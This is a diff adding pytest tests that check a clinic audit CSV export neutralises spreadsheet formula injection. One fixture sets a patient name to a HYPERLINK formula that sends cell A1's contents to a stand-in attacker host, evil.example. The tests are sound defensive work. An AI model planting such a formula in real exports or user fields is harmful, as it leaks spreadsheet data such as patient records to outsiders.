@@ -141,3 +141,29 @@ def test_report_rejects_an_end_date_before_the_start(client: Any, clinic_admin: 
     ).content.decode()
     assert "The end date must be on or after the start date." in html
     assert 'value="2026-05-02"' in html
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_spreadsheet_safe_neutralises_every_formula_start(start: str) -> None:
+    from rehab_clinic.audit.exports import spreadsheet_safe
+
+    assert spreadsheet_safe(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
+    assert spreadsheet_safe(f"Ann {start}1") == f"Ann {start}1"
+    assert spreadsheet_safe(None) == ""
+
+
+def test_the_audit_export_cannot_carry_a_formula_to_the_admins_spreadsheet(
+    client: Any, clinic_admin: Any, therapist: Any, patient: Any
+) -> None:
+    patient.first_name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    patient.last_name = "@SUM(1+1)"
+    patient.save()
+    record_event(user=therapist, action="view", patient=patient, obj=patient, detail="-2+3")
+    client.force_login(clinic_admin)
+    export = client.get(reverse("audit:export_csv"), {"patient": patient.pk})
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    assert "'-2+3" in cells
+    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
